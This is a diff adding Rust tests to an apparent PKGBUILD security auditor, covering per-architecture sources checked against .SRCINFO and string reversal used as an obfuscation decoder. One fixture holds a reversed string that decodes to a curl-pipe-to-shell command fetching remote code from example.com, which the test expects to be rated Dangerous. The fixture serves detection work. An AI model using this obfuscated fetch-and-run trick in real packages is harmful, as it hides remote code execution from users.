@@ -609,3 +609,61 @@ fn a_skipped_data_table_that_nothing_runs_is_info() {
         );
     }
 }
+
+// False review: a `source` computed from a variable set per architecture in branches (asm0dey's
+// zns-bin: `if [ "$CARCH" == "x86_64" ]; then _arch="amd64"; elif …; else _arch="arm64"; fi`,
+// `source=(…_linux_$_arch.tar.gz)`), against a .SRCINFO made on x86_64 that lists the amd64
+// one. A source the .SRCINFO lists under no branch's value stays medium.
+
+fn per_arch(srcinfo_source: &str) -> AuditInput {
+    AuditInput {
+        pkgbuild: "pkgname=dnsq-bin\npkgver=0.3.0\npkgrel=1\narch=('x86_64' 'aarch64' 'i686')\n_arch=\"\"\nif [ \"$CARCH\" == \"x86_64\" ]; then\n    _arch=\"amd64\"\nelif [ \"$CARCH\" == \"i686\" ]; then\n    _arch=\"386\"\nelse\n    _arch=\"arm64\"\nfi\nurl=\"https://github.com/example/dnsq\"\nlicense=('MIT')\nsource=(\"dnsq-$pkgver.tar.gz::$url/releases/download/v$pkgver/dnsq_${pkgver}_linux_$_arch.tar.gz\")\nsha256sums=('e25dc1ff7e58df86c097a698ac8e6938c53b41da7359df799633fcb1b3419d49')\npackage() {\n    install -Dm755 \"$srcdir/dnsq\" \"$pkgdir/usr/bin/dnsq\"\n}\n".into(),
+        install_scripts: vec![],
+        srcinfo: Some(format!("pkgbase = dnsq-bin\n\tpkgver = 0.3.0\n\tpkgrel = 1\n\turl = https://github.com/example/dnsq\n\tarch = x86_64\n\tarch = aarch64\n\tarch = i686\n\tlicense = MIT\n\tsource = {srcinfo_source}\n\tsha256sums = e25dc1ff7e58df86c097a698ac8e6938c53b41da7359df799633fcb1b3419d49\n\npkgname = dnsq-bin\n")),
+    }
+}
+
+#[test]
+fn a_source_computed_per_architecture_matches_its_srcinfo() {
+    let r = audit(&per_arch(
+        "dnsq-0.3.0.tar.gz::https://github.com/example/dnsq/releases/download/v0.3.0/dnsq_0.3.0_linux_amd64.tar.gz",
+    ));
+    assert!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH").is_none_or(|s| s < Severity::Medium),
+        "{}",
+        r.to_text()
+    );
+    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
+    // The page shows another download than any branch builds: still a hidden source.
+    let r = audit(&per_arch(
+        "dnsq-0.3.0.tar.gz::https://github.com/example/dnsq/releases/download/v0.2.9/dnsq_0.2.9_linux_amd64.tar.gz",
+    ));
+    assert_eq!(
+        max_of(&r, "AUR-SRCINFO-MISMATCH"),
+        Some(Severity::Medium),
+        "{}",
+        r.to_text()
+    );
+}
+
+// False review: `rev` on a version string (taotieren's loongson-gnu-toolchain-bin:
+// `_rc_ver=$(echo "$_tagname" | rev | cut -d'-' -f1 | rev)`, the last field): reversed twice,
+// the text comes back in its own order. One `rev` feeding a shell still decodes.
+
+#[test]
+fn rev_twice_around_cut_is_a_field_not_a_decoder() {
+    let i = AuditInput {
+        pkgbuild: "pkgname=sample-toolchain-bin\n_tagname=sample-gnu-toolchain-8.3-rc1.6\n_rc_ver=$(echo \"$_tagname\" | rev | cut -d'-' -f1 | rev)\npkgver=8.3.${_rc_ver}\npkgrel=1\narch=(x86_64)\nurl=https://example.org\nlicense=(GPL)\npackage() {\n  install -d \"$pkgdir/opt\"\n}\n".into(),
+        install_scripts: vec![],
+        srcinfo: None,
+    };
+    let r = audit(&i);
+    assert_eq!(max_of(&r, "AUR-DECODE"), None, "{}", r.to_text());
+    let i = AuditInput {
+        pkgbuild: "pkgname=sample-toolchain-bin\npkgver=1\npkgrel=1\narch=(x86_64)\nurl=https://example.org\nlicense=(GPL)\n_x=$(echo 'hs | 1p/moc.elpmaxe//:sptth Ls- lruc' | rev | sh)\npackage() {\n  install -d \"$pkgdir/opt\"\n}\n".into(),
+        install_scripts: vec![],
+        srcinfo: None,
+    };
+    let r = audit(&i);
+    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
+}
